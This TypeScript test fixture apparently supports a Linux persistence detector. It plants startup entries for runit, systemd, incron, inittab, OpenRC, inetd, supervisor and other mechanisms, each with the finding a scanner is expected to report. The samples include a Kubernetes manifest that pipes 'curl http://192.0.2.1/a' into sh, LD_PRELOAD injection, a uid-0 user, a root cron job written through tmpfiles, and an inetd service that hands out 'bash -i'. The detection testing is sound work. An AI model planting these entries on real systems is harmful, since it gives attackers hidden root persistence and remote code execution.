import { executable, link, type Plant, plantOne, plantProgram } from "./plant.ts";

const BOOT = ["boot", "root"] as const;

const service = (path: string, state: string) => ({
  mechanism: "runit",
  path,
  trigger: "boot",
  runs_as: "root",
  command: path,
  argv: [path],
  state,
});

const RUN = executable("#!/bin/sh\nexec /opt/d\n");

/** Which services runsvdir starts. */
const RUNIT_PLANTS: readonly Plant[] = [
  {
    name: "runit: a service that is linked, one that is not, one that is down, one that is elsewhere",
    trap: true,
    files: {
      "/var/service": link("/run/runit/runsvdir/current"),
      "/run/runit/runsvdir/current": link("/etc/runit/runsvdir/default"),
      "/etc/runit/runsvdir/default/on": link("/etc/sv/on"),
      "/etc/runit/runsvdir/default/down": link("/etc/sv/down"),
      "/etc/runit/runsvdir/default/far": link("/opt/far"),
      "/etc/sv/on/run": RUN,
      "/etc/sv/on/log/run": RUN,
      "/etc/sv/off/run": RUN,
      "/etc/sv/off/log/run": RUN,
      "/etc/sv/down/run": RUN,
      "/etc/sv/down/log/run": RUN,
      "/etc/sv/down/down": "",
      "/opt/far/run": RUN,
      "/home/alice/service/own/run": RUN,
      "/home/alice/service/not/run": RUN,
      "/home/alice/service/not/down": "",
    },
    expect: [
      service("/etc/sv/on/run", "enabled"),
      service("/etc/sv/on/log/run", "enabled"),
      service("/etc/sv/off/run", "disabled"),
      service("/etc/sv/off/log/run", "disabled"),
      service("/etc/sv/down/run", "disabled"),
      service("/etc/sv/down/log/run", "enabled"),
      service("/opt/far/run", "enabled"),
      { ...service("/home/alice/service/own/run", "enabled"), runs_as: "alice" },
      { ...service("/home/alice/service/not/run", "disabled"), runs_as: "alice" },
    ],
  },
  {
    name: "runit: on an image that is not booted, what would be",
    files: {
      "/var/service": link("/run/runit/runsvdir/current"),
      "/etc/runit/runsvdir/default/on": link("/etc/sv/on"),
      "/etc/sv/on/run": RUN,
      "/etc/sv/off/run": RUN,
    },
    expect: [service("/etc/sv/on/run", "enabled"), service("/etc/sv/off/run", "disabled")],
  },
];

/** Other schedulers, systemd's directories, other inits, supervisors: catalogue rows 9 to 11, 23 to 41. */
export const SYSTEM_PLANTS: readonly Plant[] = [
  plantProgram("systemd_cron", ["timer", "root"], "/run/systemd/generator/cron-evil-root-0.sh"),
  plantOne(
    "incron",
    ["file_event", "alice"],
    ["/var/spool/incron/alice", "/srv/in IN_CLOSE_WRITE /opt/in $@/$#\n"],
    "/opt/in $@/$#",
    { name: "/srv/in", key: "IN_CLOSE_WRITE", argv: ["/opt/in", "$@/$#"] },
  ),
  plantOne(
    "incron",
    ["file_event", "root"],
    ["/etc/incron.d/x", "/etc IN_MODIFY,recursive=false /opt/in\n"],
    "/opt/in",
    { argv: ["/opt/in"] },
  ),
  plantOne(
    "kubernetes_manifest",
    BOOT,
    [
      "/etc/kubernetes/manifests/evil.yaml",
      'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - name: x\n    command: ["/bin/sh", "-c"]\n    args:\n    - curl http://192.0.2.1/a | sh\n',
    ],
    "/bin/sh -c curl http://192.0.2.1/a | sh",
    {
      argv: ["/bin/sh", "-c", "curl http://192.0.2.1/a | sh"],
      line: 6,
      technique: "T1543.005",
      signals: ["downloads"],
    },
  ),
  plantProgram("systemd_environment_generator", BOOT, "/etc/systemd/user-environment-generators/10-x"),
  plantOne(
    "environment_d",
    ["login", "alice"],
    ["/home/alice/.config/environment.d/x.conf", "FOO=1\nLD_PRELOAD=/home/alice/x.so\n"],
    "/home/alice/x.so",
    { key: "LD_PRELOAD", line: 2, signals: ["preloads"] },
  ),
  plantOne(
    "systemd_manager",
    BOOT,
    ["/etc/systemd/system.conf.d/x.conf", "[Manager]\nDefaultEnvironment=LD_PRELOAD=/opt/x.so\n"],
    "LD_PRELOAD=/opt/x.so",
    { key: "DefaultEnvironment", name: "Manager" },
  ),
  plantProgram("systemd_sleep", ["power_event", "root"], "/usr/lib/systemd/system-sleep/x"),
  plantOne(
    "tmpfiles",
    BOOT,
    ["/etc/tmpfiles.d/x.conf", "d /run/x 0755\nf+ /etc/cron.d/back 0644 root root - * * * * * root /opt/x\n"],
    "0644 root root - * * * * * root /opt/x",
    { key: "f+", name: "/etc/cron.d/back", line: 2 },
  ),
  plantOne("sysusers", BOOT, ["/etc/sysusers.d/x.conf", 'u evil 0 "x" /root /bin/bash\n'], '0 "x" /root /bin/bash', {
    name: "evil",
  }),
  plantOne("system_extension", BOOT, ["/var/lib/extensions/evil.raw", "sqsh"], null, { name: "evil.raw" }),
  plantProgram("networkd_dispatcher", ["network_event", "root"], "/etc/networkd-dispatcher/routable.d/50-x"),
  plantOne("inittab", BOOT, ["/etc/inittab", "id:2:initdefault:\nx1:2345:respawn:/opt/x -f\n"], "/opt/x -f", {
    key: "respawn",
    name: "x1",
  }),
  plantOne(
    "inittab",
    BOOT,
    ["/etc/inittab", "::sysinit:/sbin/openrc sysinit\ntty1::respawn:/opt/.getty\n"],
    "/opt/.getty",
    { name: "tty1", line: 2 },
  ),
  plantOne("upstart", BOOT, ["/etc/init/x.conf", "start on startup\nexec /opt/x --up\n"], "/opt/x --up"),
  plantOne(
    "upstart",
    BOOT,
    ["/etc/init/y.conf", "pre-start script\n  mkdir /run/y\n  /opt/y\nend script\n"],
    "mkdir /run/y\n  /opt/y",
    { key: "pre-start" },
  ),
  plantOne(
    "openrc_runlevel",
    BOOT,
    ["/etc/runlevels/default/evil", link("/etc/init.d/evil")],
    "/etc/init.d/evil",
    { argv: ["/etc/runlevels/default/evil"], link: "/etc/init.d/evil", interpreter: "/sbin/openrc-run" },
    { "/etc/init.d/evil": executable("#!/sbin/openrc-run\ncommand=/opt/e\n") },
  ),
  plantOne("openrc_conf", BOOT, ["/etc/conf.d/sshd", 'SSHD_OPTS=""\ncommand="/opt/.sshd"\n'], "/opt/.sshd", {
    key: "command",
    line: 2,
    signals: ["target_hidden"],
  }),
  plantProgram("openrc_local", BOOT, "/etc/local.d/x.start"),
  plantProgram("openrc_local", ["shutdown", "root"], "/etc/local.d/x.stop"),
  plantProgram("openrc_user", ["login", "alice"], "/home/alice/.config/rc/init.d/x"),
  plantProgram("runit", BOOT, "/etc/sv/evil/run"),
  ...RUNIT_PLANTS,
  plantProgram("runit", BOOT, "/etc/runit/core-services/99-x.sh"),
  plantProgram("s6", BOOT, "/etc/s6/sv/evil/run"),
  plantOne("dinit", BOOT, ["/etc/dinit.d/evil", "type = process\ncommand = /opt/d --no-fork\n"], "/opt/d --no-fork", {
    key: "command",
  }),
  plantOne(
    "inetd",
    ["connection", "root"],
    ["/etc/inetd.conf", "#x\nvttest stream tcp nowait root /bin/bash bash -i\n"],
    "/bin/bash bash -i",
    { argv: ["bash", "-i"], name: "vttest", line: 2 },
  ),
  plantOne(
    "xinetd",
    ["connection", "nobody"],
    ["/etc/xinetd.d/x", "service x\n{\n  disable = no\n  user = nobody\n  server = /opt/x\n  server_args = -a -b\n}\n"],
    "/opt/x -a -b",
    { argv: ["/opt/x", "-a", "-b"], name: "x" },
  ),
  plantOne(
    "xinetd",
    ["connection", "root"],
    ["/etc/xinetd.d/off", "service y\n{\n disable = yes\n server = /opt/y\n}\n"],
    "/opt/y",
    { argv: ["/opt/y"], state: "disabled" },
  ),
  plantOne(
    "supervisor",
    BOOT,
    ["/etc/supervisor/conf.d/x.conf", "[program:x]\ncommand=/opt/x -v\nautostart=true\n"],
    "/opt/x -v",
    { name: "program:x" },
  ),
  plantOne(
    "monit",
    BOOT,
    ["/etc/monit/conf.d/x", 'check process x with pidfile /run/x\n  start program = "/opt/x start"\n'],
    "/opt/x start",
    { key: "start program" },
  ),
  plantOne(
    "pm2",
    ["boot", "alice"],
    ["/home/alice/.pm2/dump.pm2", '[{"name":"x","pm_exec_path":"/home/alice/x.js"}]'],
    "/home/alice/x.js",
  ),
];
